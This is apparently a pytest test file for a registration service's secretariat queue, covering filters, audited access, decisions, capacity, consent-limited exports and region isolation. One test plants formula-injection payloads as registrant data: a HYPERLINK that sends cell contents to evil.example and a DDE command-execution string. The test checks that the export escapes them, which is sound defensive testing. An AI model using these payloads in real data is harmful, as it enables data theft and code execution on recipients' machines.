"""The secretariat's queue: filters, details with a reason, actions, capacity and the
waiting list, exports by consent, balance, and region isolation on every endpoint."""

import csv
import io
import uuid

import pytest
from sqlalchemy import select

from services.registration.extensions import db
from services.registration.models import AuditEntry

from .conftest import event_settings, register, secretariat, topics


def ece():
    return secretariat("ECE")  # tokens live 30 s: mint one per call


def eca():
    return secretariat("ECA")


@pytest.fixture
def people(client, cms, event):
    ids = {}
    for name, extra in {
        "ana": {"gender": "woman", "category": "civil_society", "migrant_led": True},
        "ben": {"gender": "man", "category": "academia", "country": "DE"},
        "cai": {"gender": "woman", "category": "civil_society", "age_band": "18_29"},
        "dee": {"gender": "non_binary", "category": "trade_union"},
    }.items():
        response = register(
            client,
            cms,
            name=f"{name.title()} Person",
            email=f"{name}@example.org",
            consents={"public_listing": name != "dee", "share_contact": name == "ana"},
            **extra,
        )
        ids[name] = response.get_json()["id"]
    return ids


def act(client, rid, action, **extra):
    return client.post(
        f"/registrations/{rid}/actions", json={"action": action, **extra}, headers=ece()
    )


def test_queue_filters_counts_and_pages(client, people):
    page = client.get("/registrations?event=ev-1&limit=2", headers=ece()).get_json()
    assert page["total"] == 4 and len(page["items"]) == 2
    assert page["counts"] == {"received": 4}
    women = client.get("/registrations?event=ev-1&gender=woman", headers=ece()).get_json()
    assert sorted(i["name"] for i in women["items"]) == ["Ana Person", "Cai Person"]
    led = client.get("/registrations?migrant_led=true", headers=ece()).get_json()
    assert [i["name"] for i in led["items"]] == ["Ana Person"]
    young = client.get("/registrations?age_band=18_29", headers=ece()).get_json()
    assert young["total"] == 1
    second = client.get("/registrations?event=ev-1&limit=2&offset=2", headers=ece()).get_json()
    assert {i["id"] for i in second["items"]}.isdisjoint({i["id"] for i in page["items"]})


def test_opening_a_record_needs_a_reason_and_is_audited(app, client, people):
    rid = people["ana"]
    assert client.get(f"/registrations/{rid}", headers=ece()).status_code == 422
    detail = client.get(f"/registrations/{rid}?reason=eligibility check", headers=ece())
    body = detail.get_json()
    assert body["email"] == "ana@example.org" and body["history"][0]["status"] == "received"
    with app.app_context():
        entry = db.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "registration.decrypt")
        ).one()
    assert (entry.object_id, entry.reason, entry.actor) == (rid, "eligibility check", "cms:user:7")


def test_decisions_capacity_and_the_waiting_list(app, client, cms, people):
    for name in ("ana", "ben", "cai"):
        assert act(client, people[name], "eligible").status_code == 200
    assert act(client, people["ana"], "select").status_code == 200
    assert act(client, people["ben"], "select").status_code == 200
    full = act(client, people["cai"], "select")  # the track has 2 places
    assert full.status_code == 409 and "full" in full.get_json()["message"]
    assert act(client, people["cai"], "waitlist").get_json()["status"] == "waitlisted"
    no_reason = act(client, people["dee"], "ineligible")
    assert no_reason.status_code == 422
    assert act(client, people["dee"], "ineligible", reason="not a stakeholder").status_code == 200
    wrong = act(client, people["dee"], "select")
    assert wrong.status_code == 409 and "cannot be moved to selected" in wrong.get_json()["message"]
    note = act(client, people["ana"], "note", note="Asked for sign interpretation.")
    assert note.status_code == 200
    detail = client.get(f"/registrations/{people['ana']}?reason=check note", headers=ece())
    assert detail.get_json()["notes"][0]["text"] == "Asked for sign interpretation."
    assert topics(app).count("registration.decision") == 4  # 2 selected, 1 waitlisted, 1 no


def bulk(client, action, ids, **extra):
    return client.post(
        "/registrations/actions", json={"action": action, "ids": ids, **extra}, headers=ece()
    )


def test_bulk_actions_apply_where_possible_and_say_why_the_others_were_skipped(client, people):
    assert act(client, people["cai"], "eligible").status_code == 200
    ids = [people["ana"], people["ben"], people["cai"]]
    done = bulk(client, "start_review", ids)
    assert done.status_code == 200
    body = done.get_json()
    assert (body["status"], body["count"]) == ("applied", 2)
    assert sorted(body["done"]) == sorted([people["ana"], people["ben"]])
    [skipped] = body["skipped"]
    assert (skipped["id"], skipped["status"]) == (people["cai"], "eligible")
    assert [r["code"] for r in skipped["reasons"]] == ["status"]
    assert "eligible" in skipped["reasons"][0]["message"]
    again = bulk(client, "start_review", [people["ana"]]).get_json()
    assert (again["status"], again["count"]) == ("nothing_done", 0)


def test_each_record_offers_only_the_decisions_its_status_leads_to(client, people):
    queue = client.get("/registrations?event=ev-1", headers=ece()).get_json()
    received = {i["id"]: i for i in queue["items"]}[people["ana"]]
    offered = {o["action"]: o for o in received["actions"]}
    assert set(offered) == {"start_review", "eligible", "ineligible"}  # no "select" yet
    assert all(o["possible"] and o["blockers"] == [] for o in offered.values())
    act(client, people["ana"], "eligible")
    detail = client.get(f"/registrations/{people['ana']}?reason=decide", headers=ece())
    assert {o["action"] for o in detail.get_json()["actions"]} == {
        "ineligible",
        "select",
        "waitlist",
        "not_select",
    }
    refused = act(client, people["ben"], "select")  # still received
    assert refused.status_code == 409
    assert "find it eligible first" in refused.get_json()["message"]


def test_a_full_track_blocks_select_and_says_so(client, people):
    for name in ("ana", "ben", "cai"):
        act(client, people[name], "eligible")
    done = bulk(client, "select", [people["ana"], people["ben"], people["cai"]]).get_json()
    assert done["count"] == 2  # the track has two places
    [skipped] = done["skipped"]
    assert skipped["reasons"][0]["code"] == "track_full"
    assert skipped["reasons"][0]["capacity"] == 2
    row = client.get(f"/registrations/{skipped['id']}?reason=decide", headers=ece()).get_json()
    select_option = next(o for o in row["actions"] if o["action"] == "select")
    assert not select_option["possible"]
    assert [b["code"] for b in select_option["blockers"]] == ["track_full"]
    assert next(o for o in row["actions"] if o["action"] == "waitlist")["possible"]


def test_export_holds_only_what_each_person_consented_to(client, people):
    for name in people:
        act(client, people[name], "eligible")
    act(client, people["ana"], "select")
    act(client, people["dee"], "waitlist")
    act(client, people["dee"], "select")
    response = client.get("/registrations/export?event=ev-1", headers=ece())
    assert response.mimetype == "text/csv"
    rows = {r["status"] + r["name"]: r for r in csv.DictReader(io.StringIO(response.text))}
    assert len(rows) == 2
    ana = rows["selectedAna Person"]
    assert (ana["email"], ana["organisation"]) == ("ana@example.org", "Canary Org")
    dee = rows["selected"]  # no public listing: no name, no organisation, no contact
    assert (dee["name"], dee["organisation"], dee["email"]) == ("", "", "")
    assert "dee@example.org" not in response.text and "ben@example.org" not in response.text


def test_the_export_never_hands_a_formula_to_a_spreadsheet(client, cms, event):
    """Issue 17, section 6: a registrant's own texts start a formula in the export."""
    attack = {
        "name": '=HYPERLINK("https://evil.example/?"&C2,"Open")',
        "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
        "phone": "+41 22 000 00 00",
    }
    rid = register(
        client,
        cms,
        email="formula@example.org",
        consents={"public_listing": True, "share_contact": True},
        **attack,
    ).get_json()["id"]
    for action in ("eligible", "select"):
        assert act(client, rid, action).status_code == 200
    response = client.get("/registrations/export?event=ev-1", headers=ece())
    [row] = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert {k: row[k] for k in attack} == {k: "'" + v for k, v in attack.items()}
    assert row["email"] == "formula@example.org"


def test_balance_counts_the_pool_and_the_selected(client, people):
    for name in ("ana", "ben", "cai"):
        act(client, people[name], "eligible")
    act(client, people["ana"], "select")
    balance = client.get("/events/ev-1/balance", headers=ece()).get_json()
    assert balance["gender"]["woman"] == {"registered": 2, "pool": 2, "selected": 1}
    assert balance["migrant_led"]["True"]["selected"] == 1
    assert balance["category"]["trade_union"] == {"registered": 1, "pool": 0, "selected": 0}


def test_another_region_is_refused_on_every_endpoint_and_never_counted(client, cms, people):
    rid = people["ana"]
    assert client.get("/registrations", headers=eca()).get_json()["total"] == 0
    refused = [
        client.get("/registrations?event=ev-1", headers=eca()),
        client.get("/registrations?region=ECE", headers=eca()),
        client.get(f"/registrations/{rid}?reason=curious", headers=eca()),
        client.post(f"/registrations/{rid}/actions", json={"action": "eligible"}, headers=eca()),
        client.post(
            "/registrations/actions", json={"action": "eligible", "ids": [rid]}, headers=eca()
        ),
        client.get("/registrations/export?event=ev-1", headers=eca()),
        client.get("/events/ev-1/balance", headers=eca()),
    ]
    assert [r.status_code for r in refused] == [403] * 7
    assert all("ana@example.org" not in r.text for r in refused)
    client.put("/events/ev-eca", json=event_settings(region="ECA"), headers=cms)
    register(client, cms, event="ev-eca", email="eca.person@example.org")
    assert client.get("/registrations", headers=eca()).get_json()["total"] == 1
    assert client.get("/registrations", headers=ece()).get_json()["total"] == 4
    unknown = client.get(f"/registrations/{uuid.uuid4()}?reason=curious", headers=ece())
    assert unknown.status_code == 404


def test_the_website_token_cannot_read_the_queue(client, cms, people):
    assert client.get("/registrations", headers=cms).status_code == 403


def test_nobody_is_found_eligible_before_the_consents_and_criteria(app, client, cms, event):
    from .test_selfservice import token_for

    minor = register(
        client, cms, email="young@example.org", age_band="under_18", guardian_email="p@example.org"
    ).get_json()["id"]
    nominee = register(
        client,
        cms,
        track="nominate",
        email="nominee@example.org",
        nominator_name="Lead",
        nominator_email="lead@example.org",
        nominator_organisation="Network",
    ).get_json()["id"]
    speaker = register(
        client,
        cms,
        track="floor",
        email="speaker@example.org",
        category="civil_society",
        focal_point_name="Focal",
        focal_point_email="focal@example.org",
        statement="Expert.",
    ).get_json()["id"]
    refusals = {rid: act(client, rid, "eligible") for rid in (minor, nominee, speaker)}
    assert [r.status_code for r in refusals.values()] == [409, 409, 409]
    assert "guardian" in refusals[minor].get_json()["message"]
    assert "not accepted" in refusals[nominee].get_json()["message"]
    assert "expertise in migration is not checked" in refusals[speaker].get_json()["message"]
    for rid, purpose in ((minor, "guardian"), (nominee, "accept"), (speaker, "authorise")):
        token = token_for(app, rid, purpose)
        client.post(f"/consents/{purpose}/confirm", json={"token": token}, headers=cms)
    act(client, speaker, "check_criteria", criteria={"category": True, "expertise": True})
    assert [act(client, rid, "eligible").status_code for rid in (minor, nominee, speaker)] == [
        200,
        200,
        200,
    ]


def test_floor_criteria_are_named_when_missing_and_can_be_checked_in_bulk(app, client, cms, event):
    from .test_selfservice import token_for

    speakers = [
        register(
            client,
            cms,
            track="floor",
            email=f"speaker{i}@example.org",
            category="civil_society",
            focal_point_name="Focal",
            focal_point_email="focal@example.org",
            statement="Expert.",
        ).get_json()["id"]
        for i in range(3)
    ]
    consultant = register(client, cms, email="plain@example.org").get_json()["id"]
    row = client.get(f"/registrations/{speakers[0]}?reason=decide", headers=ece()).get_json()
    assert row["criteria_missing"] == ["authorised", "category", "expertise"]
    eligible = next(o for o in row["actions"] if o["action"] == "eligible")
    assert [b["code"] for b in eligible["blockers"]] == [
        "criterion_authorised",
        "criterion_category",
        "criterion_expertise",
    ]
    for rid in speakers[:2]:
        token = token_for(app, rid, "authorise")
        client.post("/consents/authorise/confirm", json={"token": token}, headers=cms)
    checks = {"category": True, "expertise": True}
    checked = bulk(client, "check_criteria", [*speakers, consultant], criteria=checks).get_json()
    assert checked["count"] == 3
    assert [r["code"] for s in checked["skipped"] for r in s["reasons"]] == ["not_floor_speaker"]
    made = bulk(client, "eligible", speakers).get_json()
    assert sorted(made["done"]) == sorted(speakers[:2])
    assert [r["code"] for r in made["skipped"][0]["reasons"]] == ["criterion_authorised"]
